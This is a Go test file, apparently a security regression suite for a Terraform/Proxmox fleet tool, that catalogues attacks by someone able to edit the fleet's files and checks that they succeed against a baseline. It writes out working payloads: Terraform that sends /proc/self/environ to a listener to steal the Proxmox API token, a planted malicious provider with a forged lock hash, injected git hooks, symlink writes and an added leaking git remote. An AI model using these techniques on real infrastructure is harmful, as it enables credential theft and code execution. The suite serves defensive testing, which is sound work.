@@ -1,0 +1,410 @@
+package hostile_test
+
+import (
+	"encoding/json"
+	"fmt"
+	"maps"
+	"os"
+	"path"
+	"path/filepath"
+	"runtime"
+	"slices"
+	"strings"
+	"testing"
+
+	"golang.org/x/mod/sumdb/dirhash"
+
+	"github.com/numaform/numaform/generator"
+	"github.com/numaform/numaform/modules"
+)
+
+// attack is a change of a fleet's files by somebody who may only change these.
+type attack struct {
+	name string
+	edit func(w *world, f files)
+	// names is the path that a refusal names, or a part of it.
+	names string
+	// namesBy returns it where it is known once the attack is made.
+	namesBy func() string
+	// tree is the path of a file that only a tree made by hand can hold; edit is nil.
+	tree string
+	// only is where it is possible; empty means everywhere.
+	only place
+	// passes tells an attack that does nothing by itself: numaform passes over it.
+	passes bool
+	// left is one that does nothing in a directory.
+	left bool
+	// fresh is an attack on a machine that has no working copy yet.
+	fresh bool
+	// some is an attack that meets two commands only. more is one of many of a kind: it
+	// meets one, and not the baseline.
+	some, more bool
+	// command is what sets it off in a numaform that does not refuse it; plan if empty.
+	command []string
+	// twice is an attack that needs the command again, as the controller does it.
+	twice bool
+	// huge is an attack by size, whose memory is measured. It is slow, and made with one
+	// engine only.
+	huge bool
+	// succeeded returns what is missing for its success, as the baseline shows it.
+	succeeded func(w *world, saw *seen) string
+}
+
+// seen is what a command of numaform did.
+type seen struct {
+	result
+	// started are notes of engines, providers and programs of the attacker.
+	started []string
+	// connections is how often the listener was connected to, and asked what was said.
+	connections int
+	asked       []byte
+	exposed     []string
+	guests      []string
+	writes      []string
+}
+
+// watch runs a command and returns what it did.
+func (w *world) watch(args ...string) *seen {
+	w.t.Helper()
+	saw := &seen{result: w.run(args...)}
+	saw.started, saw.exposed, saw.guests, saw.writes = w.started(), w.exposed(), w.sameGuests(), w.writes()
+	saw.connections, saw.asked = w.listener.seen()
+	return saw
+}
+
+func planNothing() []string  { return []string{"plan", "-f", "nothing.yaml"} }
+func applyNothing() []string { return []string{"apply", "-f", "nothing.yaml", "--auto-approve"} }
+
+// environ is an expression for the engine's environment, which a URL may hold.
+const environ = `urlencode(filebase64("/proc/self/environ"))`
+
+// remoteState is a file of a module that tells the listener all that the engine has in
+// its environment, without any provider.
+func (w *world) remoteState(mark string) string {
+	return fmt.Sprintf(`data "terraform_remote_state" "x" {
+  backend = "http"
+  config = {
+    address = "%s/%s?environ=${%s}"
+  }
+}
+`, w.listener.server.URL, mark, environ)
+}
+
+// carried returns the files of the modules of a fleet, by their paths below a directory
+// without the hash, and the hash.
+func (f files) carried(w *world) (map[string][]byte, string) {
+	w.t.Helper()
+	content, hash := map[string][]byte{}, ""
+	for name, file := range f {
+		if parts := strings.SplitN(name, "/", 4); len(parts) == 4 && parts[0] == "modules" {
+			content[path.Join(parts[1], parts[3])], hash = file.content, parts[2]
+		}
+	}
+	if modules.HashOf(content) != hash {
+		w.t.Fatalf("the fleet's modules are %v under %s", slices.Sorted(maps.Keys(content)), hash)
+	}
+	return content, hash
+}
+
+// ownModule adds modules of the attacker's own under the hash of their content, which
+// makes the node file call them, and returns the hash.
+func (f files) ownModule(w *world, node string, change func(content map[string][]byte)) string {
+	w.t.Helper()
+	content, hash := f.carried(w)
+	change(content)
+	own := modules.HashOf(content)
+	for name, text := range content {
+		module, rest, _ := strings.Cut(name, "/")
+		f.put(path.Join("modules", module, own, rest), string(text))
+	}
+	f.edit(w, node, hash, own)
+	return own
+}
+
+// resurrect brings the node file of the VM back that was removed, so that there is
+// something to apply.
+func (f files) resurrect(w *world) string {
+	f.put(w.removed, string(w.removedContent))
+	return w.removed
+}
+
+// with adds a file to modules.
+func with(name, text string) func(map[string][]byte) {
+	return func(content map[string][]byte) { content[name] = []byte(text) }
+}
+
+// evil is a program of the attacker's that notes that it was started, and by what
+// environment.
+func (w *world) evil(mark string) string {
+	return fmt.Sprintf("#!/bin/sh\necho %s $(env | grep -c ^PROXMOX_VE_API_TOKEN=) >>%q\nexit 1\n", mark, w.notes())
+}
+
+// step and staged are a write of numaform's that was cut off, as it keeps it.
+type step struct {
+	Path   string `json:"path"`
+	Before []byte `json:"before"`
+	After  []byte `json:"after"`
+	Mode   string `json:"mode,omitempty"`
+}
+
+type staged struct {
+	Steps []step `json:"steps"`
+}
+
+// next returns a write that was cut off.
+func (w *world) next(steps ...step) string {
+	text, err := json.Marshal(staged{Steps: steps})
+	w.must(err)
+	return string(text)
+}
+
+// gitConfig is the configuration of a working copy whose first URL is the listener's.
+func (w *world) gitConfig() []byte {
+	return fmt.Appendf(nil, "[core]\n\tbare = false\n[remote \"origin\"]\n\turl = %s/fleet.git\n\turl = %s\n\tfetch = +refs/heads/*:refs/remotes/origin/*\n",
+		w.listener.server.URL, w.path("remote.git"))
+}
+
+// shown are the attacks that were shown to work.
+func shown() []attack {
+	providerDir := path.Join(shard, ".terraform/providers", generator.ProviderSource, generator.ProviderVersion, runtime.GOOS+"_"+runtime.GOARCH)
+	provider := path.Join(".numaform/work", providerDir, "terraform-provider-proxmox_v"+generator.ProviderVersion)
+	return []attack{
+		{
+			name: "module under its own hash", names: "node-workers",
+			edit: func(w *world, f files) {
+				f.ownModule(w, f.nodes()[0], with("proxmox-node/zz.tf", w.remoteState("own-hash")))
+			},
+			succeeded: tokenSent,
+		},
+		{
+			name: "module puts the token into a description", names: "node-workers", command: applyNothing(),
+			edit: func(w *world, f files) {
+				f.ownModule(w, f.resurrect(w), func(content map[string][]byte) {
+					main := strings.Replace(string(content["proxmox-node/main.tf"]), `join("\n", var.description)`,
+						`join("\n", concat(var.description, [base64encode(regex("PROXMOX_VE_API_TOKEN=[^\\x00]*", file("/proc/self/environ")))]))`, 1)
+					content["proxmox-node/main.tf"] = []byte(main)
+				})
+			},
+			succeeded: func(_ *world, saw *seen) string {
+				if !strings.Contains(strings.Join(saw.exposed, "\n"), "guest 2") || len(saw.guests) != 1 {
+					return fmt.Sprintf("no guest holds the token: %v", saw.exposed)
+				}
+				return ""
+			},
+		},
+		{
+			name: "file beside a module in the working directory", left: true, names: ".numaform", command: applyNothing(),
+			edit: func(w *world, f files) {
+				_, hash := f.carried(w)
+				f.resurrect(w)
+				f.put(".numaform/work/modules/proxmox-node/"+hash+"/zz.tf", w.remoteState("work"))
+			},
+			succeeded: tokenSent,
+		},
+		{
+			name: "file beside a module in the working directory of a new clone", names: ".numaform", only: inGit, fresh: true, command: applyNothing(),
+			edit: func(w *world, f files) {
+				_, hash := f.carried(w)
+				f.resurrect(w)
+				f.put(".numaform/work/modules/proxmox-node/"+hash+"/zz.tf", w.remoteState("work"))
+			},
+			succeeded: tokenSent,
+		},
+		{
+			name: "provider in the working directory", names: ".numaform", only: inGit, fresh: true, command: applyNothing(),
+			edit: func(w *world, f files) {
+				f.resurrect(w)
+				f.program(provider, w.evil("evil-provider"))
+				dir := w.t.TempDir()
+				w.must(os.WriteFile(filepath.Join(dir, path.Base(provider)), []byte(w.evil("evil-provider")), 0o600))
+				sum, err := dirhash.HashDir(dir, "", dirhash.Hash1)
+				w.must(err)
+				f.put(".numaform/work/"+shard+"/.terraform.lock.hcl", fmt.Sprintf("provider %q {\n  version     = %q\n  constraints = %q\n  hashes = [\n    %q,\n  ]\n}\n",
+					generator.ProviderSource, generator.ProviderVersion, generator.ProviderVersion, sum))
+			},
+			succeeded: func(_ *world, saw *seen) string {
+				if !slices.Contains(saw.started, "evil-provider 1") {
+					return fmt.Sprintf("started: %q", saw.started)
+				}
+				return ""
+			},
+		},
+		{
+			name: "cut-off write puts a hook into the working copy", names: ".numaform/next.json", only: inGit,
+			edit: func(w *world, f files) {
+				f.put(".numaform/next.json", w.next(step{Path: ".git/hooks/post-commit", After: []byte(w.evil("hook")), Mode: "executable"}))
+			},
+			command: applyNothing(), succeeded: exists("fleet/.git/hooks/post-commit"),
+		},
+		{
+			name: "cut-off write through a link", names: ".numaform/next.json", only: inGit,
+			edit: func(w *world, f files) {
+				f.link("elsewhere", w.path("home"))
+				f.put(".numaform/next.json", w.next(step{Path: "elsewhere/program", After: []byte(w.evil("outside")), Mode: "executable"}))
+			},
+			command: applyNothing(), succeeded: exists("home/program"),
+		},
+		{
+			name: "cut-off write adds a second URL", names: ".numaform/next.json", only: inGit,
+			edit: func(w *world, f files) {
+				have := w.clonedConfig()
+				f.put(".numaform/next.json", w.next(step{Path: ".git/config", Before: have, After: w.gitConfig()}))
+			},
+			command: applyNothing(), twice: true, succeeded: func(_ *world, saw *seen) string {
+				if !slices.Contains(leaked(saw.asked), gitCanary) {
+					return fmt.Sprintf("the listener was asked: %s\n%s", saw.asked, saw.said)
+				}
+				return ""
+			},
+		},
+		{
+			name: "sub-module by http", names: "node-workers", edit: subModule("%s/module.zip"), succeeded: asked,
+		},
+		{
+			name: "sub-module by git", names: "node-workers", edit: subModule("git::%s/module.git"), succeeded: asked,
+		},
+		{
+			name: "huge node file", names: "node-workers", huge: true,
+			edit:      func(_ *world, f files) { f.put(f.nodes()[0], strings.Repeat("\n", 100<<20)) },
+			succeeded: tookMemory,
+		},
+	}
+}
+
+// clonedConfig returns the git configuration of the working copy, as anybody can guess it.
+func (w *world) clonedConfig() []byte {
+	content, err := os.ReadFile(w.path("fleet", ".git", "config"))
+	if os.IsNotExist(err) {
+		return []byte("[core]\n\tbare = false\n")
+	}
+	w.must(err)
+	return content
+}
+
+func subModule(source string) func(w *world, f files) {
+	return func(w *world, f files) {
+		text := fmt.Sprintf("module \"x\" {\n  source = %q\n}\n", fmt.Sprintf(source, w.listener.server.URL))
+		f.ownModule(w, f.nodes()[0], with("proxmox-node/zz.tf", text))
+	}
+}
+
+// tokenSent wants the Proxmox token at the listener.
+func tokenSent(_ *world, saw *seen) string {
+	if !slices.Contains(leaked(saw.asked), tokenCanary) {
+		return fmt.Sprintf("the listener was asked: %q", saw.asked)
+	}
+	return ""
+}
+
+// asked wants any connection of the listener.
+func asked(_ *world, saw *seen) string {
+	if saw.connections == 0 {
+		return "the listener was not asked"
+	}
+	return ""
+}
+
+// tookMemory wants more memory than any fleet needs.
+func tookMemory(_ *world, saw *seen) string {
+	if saw.memoryMiB < maxMemoryMiB {
+		return fmt.Sprintf("it took %d MiB", saw.memoryMiB)
+	}
+	return ""
+}
+
+// maxMemoryMiB is what a command of numaform may take on a small fleet.
+const maxMemoryMiB = 150
+
+// exists wants a file of the world.
+func exists(name string) func(*world, *seen) string {
+	return func(w *world, _ *seen) string {
+		if _, err := os.Stat(w.path(name)); err != nil {
+			return err.Error()
+		}
+		return ""
+	}
+}
+
+// launch makes an attack on the world as it was at first.
+func (w *world) launch(a attack) {
+	w.t.Helper()
+	w.restore()
+	w.measures = a.huge
+	if a.tree != "" {
+		w.pushTree(a.tree)
+		return
+	}
+	before := w.files()
+	after := maps.Clone(before)
+	a.edit(w, after)
+	w.attack(before, after)
+	if a.fresh {
+		w.must(os.RemoveAll(w.path("fleet")))
+	}
+}
+
+// TestBaseline is the control: the attacks that were shown succeed against the baseline.
+func TestBaseline(t *testing.T) {
+	t.Parallel()
+	for name, engine := range engines(t) {
+		for _, where := range []place{inGit, inDirectory} {
+			t.Run(name+" "+string(where), func(t *testing.T) {
+				t.Parallel()
+				w := newWorld(t, baseline(t), where, engine)
+				for _, a := range shown() {
+					if a.possible(w, name) {
+						t.Run(a.name, func(t *testing.T) { w.of(t).succeeds(a) })
+					}
+				}
+			})
+		}
+	}
+}
+
+// possible reports whether an attack is made in a world with an engine.
+func (a *attack) possible(w *world, engine string) bool {
+	return (a.only == "" || a.only == w.place) && (!a.huge || engine == "tofu")
+}
+
+// where returns the path that a refusal names.
+func (a *attack) where() string {
+	if a.namesBy != nil {
+		return a.namesBy()
+	}
+	return a.names
+}
+
+// succeeds wants an attack to reach what it is for.
+func (w *world) succeeds(a attack) {
+	w.t.Helper()
+	w.launch(a)
+	command := a.command
+	if command == nil {
+		command = planNothing()
+	}
+	saw := w.watch(command...)
+	if a.twice {
+		saw = w.watch(command...)
+	}
+	if missing := a.succeeded(w, saw); missing != "" {
+		w.t.Errorf("the attack did not succeed: %s\n%s", missing, saw.said)
+	}
+	w.restoreAll()
+}
+
+// of returns the world for a part of its test.
+func (w *world) of(t *testing.T) *world {
+	part := *w
+	part.t = t
+	return &part
+}
+
+// restoreAll brings Proxmox and the states back after an attack that changed them.
+func (w *world) restoreAll() {
+	for vmid := range w.found() {
+		if _, existed := w.guests[vmid]; !existed {
+			w.sim.RemoveGuest(vmid)
+		}
+	}
+	w.states.Restore(w.statesBefore)
+}
